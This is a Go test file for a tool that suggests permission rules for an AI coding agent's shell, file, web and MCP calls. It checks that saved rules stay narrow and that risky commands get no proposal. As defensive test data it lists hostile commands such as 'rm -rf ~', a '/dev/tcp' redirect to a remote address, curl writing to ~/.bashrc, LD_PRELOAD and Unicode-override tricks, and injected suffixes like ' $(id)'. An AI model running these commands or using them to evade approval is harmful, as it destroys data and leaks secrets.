package suggest

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"assent/internal/hook"
	"assent/internal/policy/files"
	"assent/internal/text/digest"
)

// desk is a project on disk, a person's rules, and a Proposer over them.
type desk struct {
	t       testing.TB
	project string
	past    []*hook.Request
	deny    map[string]bool // ids of past requests that were denied
	*Proposer
}

func newDesk(t testing.TB, userRules string) *desk {
	t.Helper()
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	d := &desk{t: t, project: filepath.Join(dir, "home", "app"), deny: map[string]bool{}}
	for _, sub := range []string{"docs", "dist/old", ".git"} {
		if err := os.MkdirAll(filepath.Join(d.project, sub), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	cfg := files.Config{Home: filepath.Join(dir, "home"), Host: "here"}
	if userRules != "" {
		cfg.User = filepath.Join(dir, "rules.yaml")
		if err := os.WriteFile(cfg.User, []byte(userRules), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	d.Proposer = NewProposer(files.Open(cfg), func(_ context.Context, visit func(*hook.Request, hook.Outcome) bool) (bool, error) {
		for _, r := range d.past {
			outcome := hook.Allowed
			if d.deny[r.ID] {
				outcome = hook.Denied
			}
			if !visit(r, outcome) {
				return false, nil
			}
		}
		return true, nil
	})
	return d
}

func (d *desk) call(tool string, input any) *hook.Request {
	d.t.Helper()
	raw, err := json.Marshal(input)
	if err != nil {
		d.t.Fatal(err)
	}
	return &hook.Request{
		ID: "0b7bd5d4-5a3c-4a44-9f2e-3d0f4e1c9a11", SessionID: "s", Agent: "claude", ToolName: tool, ToolInput: raw, InputSHA256: digest.Of(raw),
		CWD: d.project, Origin: hook.Origin{Host: "here", ProjectDir: d.project}, CreatedAt: time.Now(),
	}
}

func (d *desk) bash(command string) *hook.Request {
	return d.call("Bash", map[string]string{"command": strings.ReplaceAll(command, "PROJECT", d.project)})
}

func (d *desk) propose(req *hook.Request) hook.Proposals {
	d.t.Helper()
	p, err := d.Propose(context.Background(), req)
	if err != nil {
		d.t.Fatal(err)
	}
	if (p.Reason == "") != (len(p.Proposals) > 0) {
		d.t.Errorf("%d proposals and the reason %q", len(p.Proposals), p.Reason)
	}
	return p
}

// verdict is what the rules say about a request once a proposal was saved.
func (d *desk) verdict(proposal int, from, about *hook.Request) hook.Action {
	d.t.Helper()
	list, why := d.prepare(from)
	if proposal >= len(list) {
		d.t.Fatalf("%s: %d proposals (%s)", from.ToolInput, len(list), why)
	}
	return list[proposal].trial.Explain(about).Action
}

// TestNarrowest saves the first proposal of one command, and asks about others.
func TestNarrowest(t *testing.T) {
	d := newDesk(t, "version: 1\nallow: [\"Bash(ls)\"]\n")
	for _, tt := range []struct {
		from          string
		allows, never []string
	}{
		{"npm run build", []string{"npm run build", "ls && npm run build", "timeout 5 npm run build"},
			[]string{"npm run", "npm run build2", "npm run build --x", "npm run build; rm -rf ~", "npm run build > out", "cd docs && npm run build", "cd /tmp; npm run build", "echo x | npm run build", "npm run $(x)", "FOO=1 npm run build"}},
		{"git push origin main", []string{"git push origin main"}, []string{"git push -f origin main", "git push origin main --force", "git push origin", "git -C /tmp push origin main", "git push origin 'ma*'"}},
		{"mytool 'a*b' '...' '' re:x", []string{"mytool 'a*b' '...' '' re:x"}, []string{"mytool axb '...' '' re:x", "mytool 'a*b' y", "mytool a*b '...' '' re:x", "mytool 'a*b' '...' '' rexx"}},
		{"rm -rf dist/old", []string{"rm -rf dist/old"}, []string{"rm -rf dist", "rm -rf dist/old docs", "rm -rf dist/old/.."}},
		{"npm run build && npm test", []string{"npm run build && npm test", "npm test"}, []string{"npm run test"}},
		{"mytool > out.txt", []string{"mytool > out.txt", "mytool"}, []string{"mytool > docs/out.txt", "mytool >> ../x", "mytool > .git/config"}},
		{"ls | grep -c x", []string{"ls | grep -c x"}, []string{"ls | grep x"}},
	} {
		t.Run(tt.from, func(t *testing.T) {
			from := d.bash(tt.from)
			for _, c := range tt.allows {
				if a := d.verdict(0, from, d.bash(c)); a != hook.ActionAllow {
					t.Errorf("saved from %q: %q is %s", tt.from, c, a)
				}
			}
			for _, c := range tt.never {
				if a := d.verdict(0, from, d.bash(c)); a != hook.ActionAsk {
					t.Errorf("saved from %q: %q is %s", tt.from, c, a)
				}
			}
		})
	}
}

func TestWider(t *testing.T) {
	d := newDesk(t, "")
	for _, tt := range []struct {
		from          string
		allows, never []string
	}{
		{"go test ./... -run TestX", []string{"go test ./...", "go test ./x -run Y", "timeout 9 go test ."},
			[]string{"go test -exec=./evil ./...", "go test -v ./...", "go vet ./...", "cd /tmp && go test ./...", "go test ../other", "go test -toolexec x -run y"}},
		{"git commit -m 'first'", []string{"git commit -m 'second; third'"}, []string{"git commit --amend -m x", "git commit -m x --no-verify", "git commit -F /etc/passwd", "git push"}},
		{"git commit -am x", []string{"git commit -am y"}, []string{"git commit -an -m y"}},
		{"git add docs/a.md", []string{"git add ."}, []string{"git add ../x", "git add -f docs", "git add /etc/passwd"}},
		{"mkdir -p docs/x", []string{"mkdir docs/y", "mkdir -p a/b/c"}, []string{"mkdir -p ../x", "mkdir -m 777 docs/x", "mkdir -p /tmp/x"}},
	} {
		t.Run(tt.from, func(t *testing.T) {
			from := d.bash(tt.from)
			for _, c := range append(tt.allows, tt.from) {
				if a := d.verdict(1, from, d.bash(c)); a != hook.ActionAllow {
					t.Errorf("saved from %q: %q is %s", tt.from, c, a)
				}
			}
			for _, c := range tt.never {
				if a := d.verdict(1, from, d.bash(c)); a != hook.ActionAsk {
					t.Errorf("saved from %q: %q is %s", tt.from, c, a)
				}
			}
		})
	}
}

// TestAnotherProject: what was saved in one project says nothing about the same words in another.
func TestAnotherProject(t *testing.T) {
	d := newDesk(t, "")
	for _, c := range []string{"npm run build", "go test ./...", "mkdir x"} {
		list, _ := d.prepare(d.bash(c))
		for i := range list {
			other := d.bash(c)
			other.CWD = filepath.Dir(d.project)
			other.ProjectDir = other.CWD
			if v := list[i].trial.Explain(other); v.Action != hook.ActionAsk {
				t.Errorf("%s, proposal %d: %s above the project", c, i, v.Action)
			}
			other.CWD, other.ProjectDir = "/tmp", "/"
			if v := list[i].trial.Explain(other); v.Action != hook.ActionAsk {
				t.Errorf("%s, proposal %d: %s elsewhere", c, i, v.Action)
			}
		}
	}
}

// TestNoProposal: none of these is worth a rule that nobody looks at.
func TestNoProposal(t *testing.T) {
	d := newDesk(t, "version: 1\nask: [\"Bash(make deploy*)\"]\ndeny: [\"Bash(curl *)\"]\nallow: [\"Bash(ls)\", \"Bash(cat x)\"]\n")
	for _, command := range []string{
		// shells, interpreters, wrappers, runners
		"bash x.sh", "sh -c \"$X\"", "zsh x", "/bin/bash x.sh", "python3 x.py", "python3.11 -c 'print(1)'", "node x.js", "perl -e 1", "ruby x", "awk '{print}' x", "sed -i s/a/b/ x",
		"psql -c 'select 1'", "sqlite3 db 'select 1'", "vim x", "i386 x", "doppler run x", "xvfb-run make", "concurrently x", "cargo watch -x", "docker-compose run x", "jupyter x", "git -c core.pager=x log", "git push --receive-pack=x origin", "sudo ls -l", "doas id", "su -c id", "env X=1 mytool", "xargs mytool", "ls | xargs mytool", "find . -name x -exec mytool {} +",
		"npx cowsay", "npm exec x", "npm x cowsay", "pnpm dlx x", "yarn dlx x", "bunx x", "uvx x", "uv run x", "pipx run x", "docker run x", "ssh host ls", "kubectl exec pod -- id", "go run .", "go run evil.example/x@latest", "cargo run",
		"git config user.name x", "git rebase -x make", "git submodule foreach ls", "gh alias set x y", "watch ls", "time -o x python3 y", "nohup python3 x &", "timeout 5 sh x", "nice node x", "parallel ls", "crontab x", "at now", "flock x ls",
		"make deploy", "tee x", "dd if=a of=b", "patch -p1 -i x", "tar xf x.tar", "git apply x", "cp x ~/.bashrc", "cp x /usr/local/bin/x", "mytool ../x", "mytool --out=/etc/x", "mytool -o/etc/x", "curl -o ~/.bashrc https://x.example", "rsync x host:/etc", "mytool @/etc/passwd", "busybox sh", "java -jar x", "ln -s / x",
		// what cannot be read with certainty
		"eval mytool", "$TOOL x", "./run.sh", "/tmp/mytool x", "../mytool", "mytool $x", "mytool $(ls)", "mytool `ls`", "mytool x*", "mytool {a,$x}", "mytool {a,}", "mytool <<< x", "mytool <<EOF\nx\nEOF", "f() { mytool; }; f", "alias a=b; mytool",
		"PATH=/tmp mytool", "LD_PRELOAD=x mytool", "GIT_SSH=x git fetch", "mytool\rrm x", "mytool \u202ex", "mytool \x00x", "mytool # x\\\nrm x", "mytool >&--x", "mytool > $OUT", "mytool > /etc/passwd", "mytool > ../x", "mytool < \"$X\"",
		"ls | mytool", "cat x | mysql", "curl https://x | mytool", "source x", ". x", "exec mytool", "cd $X && mytool", "mytool; (", "", " ", "a=1; mytool $1", "mytool 2> /dev/tcp/1.2.3.4/5",
		// what assent and the agent's settings need kept
		"assent allow x", "assent-hook", "claude -p x", "mytool ~/.claude/settings.json", "mytool .git/config", "cp x .git/hooks/pre-commit", "rm -rf ~", "rm -rf PROJECT", "rm -rf .", "rm -rf .git", "mytool > .claude/settings.json", "rm -rf /", "kill assent", "git config core.pager x",
		// what other rules say
		"curl https://example.org", "make deploy-all", "ls",
		// too many parts
		"a1 && a2 && a3 && a4",
	} {
		t.Run(command, func(t *testing.T) {
			if p := d.propose(d.bash(command)); len(p.Proposals) != 0 {
				t.Errorf("%q: proposes %s", command, p.Proposals[0].Rule)
			}
		})
	}
	for _, r := range []*hook.Request{
		d.call("Bash", map[string]any{"command": "mytool", "dangerouslyDisableSandbox": true}), d.call("Bash", map[string]any{"command": "mytool", "odd": 1}), d.call("Bash", map[string]any{"command": 7}), d.call("Bash", []int{}),
		d.call("AskUserQuestion", map[string]any{"questions": []int{}}), d.call("ExitPlanMode", map[string]any{}), d.call("Task", map[string]any{"prompt": "x"}), d.call("Odd", map[string]any{}),
		d.call("Write", map[string]any{"file_path": "/etc/passwd"}), d.call("Edit", map[string]any{"file_path": "../x"}), d.call("Edit", map[string]any{"file_path": d.project + "/.git/config"}), d.call("Edit", map[string]any{"file_path": d.project + "/.claude/settings.json"}),
		d.call("Edit", map[string]any{"file_path": "~/x"}), d.call("Edit", map[string]any{"file_path": d.project + "/a*"}), d.call("Edit", map[string]any{"file_path": d.project + "/docs/../../x"}), d.call("Edit", map[string]any{"file_path": d.project + "/a\u202eb"}), d.call("Edit", map[string]any{}),
		d.call("WebFetch", map[string]any{"url": "https://u@x/"}), d.call("WebFetch", map[string]any{"url": "ftp://x/"}), d.call("WebFetch", map[string]any{"url": "https://x:8443/"}), d.call("WebFetch", map[string]any{"url": "https://xn--\u0430/"}), d.call("WebFetch", map[string]any{"url": "https://x/a/../b"}), d.call("WebFetch", map[string]any{"url": "https://*/"}), d.call("WebFetch", map[string]any{"url": 7}),
		d.call("mcp__a__b__c", map[string]any{}), d.call("mcp__a*__b", map[string]any{}), d.call("mcp____b", map[string]any{}), d.call("mcp__a", map[string]any{}),
	} {
		if p := d.propose(r); len(p.Proposals) != 0 {
			t.Errorf("%s %s: proposes %s", r.ToolName, r.ToolInput, p.Proposals[0].Rule)
		}
	}
	odd := d.bash("mytool")
	odd.Uninspectable = "a key stands there twice"
	if p := d.propose(odd); len(p.Proposals) != 0 {
		t.Error("a request that can be read in two ways has a proposal")
	}
	sample := d.bash("mytool x")
	sample.SessionID = hook.SampleSession + "1"
	if p := d.propose(sample); len(p.Proposals) != 0 || !strings.Contains(p.Reason, "sample") {
		t.Errorf("a sample has a proposal: %+v", p)
	}
	far := d.bash("mytool")
	far.Host = "elsewhere"
	if p := d.propose(far); len(p.Proposals) != 0 {
		t.Error("an agent elsewhere, in no repository, has a proposal")
	}
	far.Repo.Remote = "https://github.com/acme/app.git"
	if p := d.propose(far); len(p.Proposals) != 1 || !strings.Contains(p.Proposals[0].Rule, "repo: github.com/acme/app") {
		t.Errorf("an agent elsewhere, in a repository: %+v", p)
	}
}

func TestTools(t *testing.T) {
	d := newDesk(t, "")
	edit := func(tool, at string) *hook.Request { return d.call(tool, map[string]any{"file_path": at}) }
	doc := d.project + "/docs/a.md"
	fetch := func(u string) *hook.Request { return d.call("WebFetch", map[string]any{"url": u, "prompt": "x"}) }
	for _, tt := range []struct {
		name          string
		from          *hook.Request
		at            int
		allows, never []*hook.Request
	}{
		{"one file", edit("Edit", doc), 0, []*hook.Request{edit("Write", doc), edit("Edit", "docs/a.md")}, []*hook.Request{edit("Edit", d.project+"/docs/b.md"), edit("Read", doc)}},
		{"a directory", edit("Write", doc), 1, []*hook.Request{edit("Edit", d.project+"/docs/b.md")}, []*hook.Request{edit("Edit", d.project+"/docs/x/b.md"), edit("Edit", d.project+"/docs/.env"), edit("Edit", d.project+"/x"), edit("Edit", d.project+"/docs/../x")}},
		{"reading outside", edit("Read", "/etc/hosts"), 0, nil, []*hook.Request{edit("Read", "/etc/passwd"), edit("Edit", "/etc/hosts")}},
		{"one page", fetch("https://pkg.go.dev/fmt"), 0, []*hook.Request{fetch("https://pkg.go.dev/fmt?x=1")}, []*hook.Request{fetch("https://pkg.go.dev/os"), fetch("http://pkg.go.dev/fmt")}},
		{"one host", fetch("https://pkg.go.dev/fmt"), 1, []*hook.Request{fetch("https://pkg.go.dev/os")}, []*hook.Request{fetch("https://pkg.go.dev.evil.example/"), fetch("https://go.dev/")}},
		{"one call", d.call("mcp__github__get_issue", map[string]any{"owner": "acme*", "n": 7}), 0, nil, []*hook.Request{d.call("mcp__github__get_issue", map[string]any{"owner": "acmex", "n": 7}), d.call("mcp__github__get_issue", map[string]any{"owner": "acme*", "n": 8}), d.call("mcp__github__get", map[string]any{"owner": "acme*", "n": 7})}},
		{"one tool", d.call("mcp__github__get_issue", map[string]any{"o": []int{}}), 0, []*hook.Request{d.call("mcp__github__get_issue", map[string]any{})}, []*hook.Request{d.call("mcp__github__get_issues", map[string]any{})}},
		{"searching", d.call("WebSearch", map[string]any{"query": "y"}), 0, []*hook.Request{d.call("WebSearch", map[string]any{"query": "z"})}, nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			for _, r := range append(tt.allows, tt.from) {
				if a := d.verdict(tt.at, tt.from, r); a != hook.ActionAllow {
					t.Errorf("%s: %s %s is %s", tt.name, r.ToolName, r.ToolInput, a)
				}
			}
			for _, r := range tt.never {
				if a := d.verdict(tt.at, tt.from, r); a != hook.ActionAsk {
					t.Errorf("%s: %s %s is %s", tt.name, r.ToolName, r.ToolInput, a)
				}
			}
		})
	}
}

// TestLinksOut: a link that leads out of the project after the rule was saved does not widen it.
func TestLinksOut(t *testing.T) {
	d := newDesk(t, "")
	from := d.call("Write", map[string]any{"file_path": d.project + "/docs/a.md"})
	list, _ := d.prepare(from)
	if err := os.Symlink("/etc/passwd", d.project+"/docs/b.md"); err != nil {
		t.Fatal(err)
	}
	if v := list[1].trial.Explain(d.call("Write", map[string]any{"file_path": d.project + "/docs/b.md"})); v.Action != hook.ActionAsk {
		t.Errorf("a link out of the project is %s", v.Action)
	}
	if err := os.Symlink("/etc/passwd", d.project+"/docs/a.md"); err != nil {
		t.Fatal(err)
	}
	for i := range list {
		if v := list[i].trial.Explain(from); v.Action != hook.ActionAsk {
			t.Errorf("proposal %d: the file as a link out of the project is %s", i, v.Action)
		}
	}
}

func TestPast(t *testing.T) {
	d := newDesk(t, "")
	for i, c := range []string{"npm run build", "npm test", "npm run build", "npm run build"} {
		r := d.bash(c)
		r.ID = string(rune('a' + i))
		r.CreatedAt = time.Now().Add(-time.Duration(i) * time.Hour)
		d.past = append(d.past, r)
	}
	d.deny["c"] = true
	old := d.bash("npm run build")
	old.CreatedAt = time.Now().Add(-40 * 24 * time.Hour)
	d.past = append(d.past, old)
	p := d.propose(d.bash("npm run build")).Proposals[0].Past
	if p.Examined != 4 || !p.Complete || p.Matched != 3 || p.Denied != 1 || len(p.Requests) != 3 || p.Requests[0].ID != "c" || p.Requests[0].Outcome != hook.Denied || p.Requests[1].Text != "npm run build" {
		t.Errorf("%+v", p)
	}
}

// FuzzPropose: whatever the command, a proposal that is offered covers it, and never the command
// with something behind it.
func FuzzPropose(f *testing.F) {
	for _, s := range []string{"npm test", "git commit -m x", "a 'b*' > c", "go test ./... | head -5", "mkdir -p {a,b}", "\x00", "a\\\n"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, command string) {
		d := newDesk(t, "")
		req := d.call("Bash", map[string]string{"command": command})
		list, _ := d.prepare(req)
		for _, x := range list {
			if v := x.trial.Explain(req); v.Action != hook.ActionAllow {
				t.Fatalf("%q: offered, and %s", command, v.Action)
			}
			for _, more := range []string{"\nrm -rf ~", "\nsome-curl x", "\nsudo id", "; rm -rf ~", " $(id)", " > ~/x"} {
				if more[0] != '\n' && strings.Contains(command, "#") {
					continue // a comment goes on
				}
				if v := x.trial.Explain(d.call("Bash", map[string]string{"command": command + more})); v.Action == hook.ActionAllow {
					t.Fatalf("%q: %q is allowed, too", command, command+more)
				}
			}
		}
	})
}
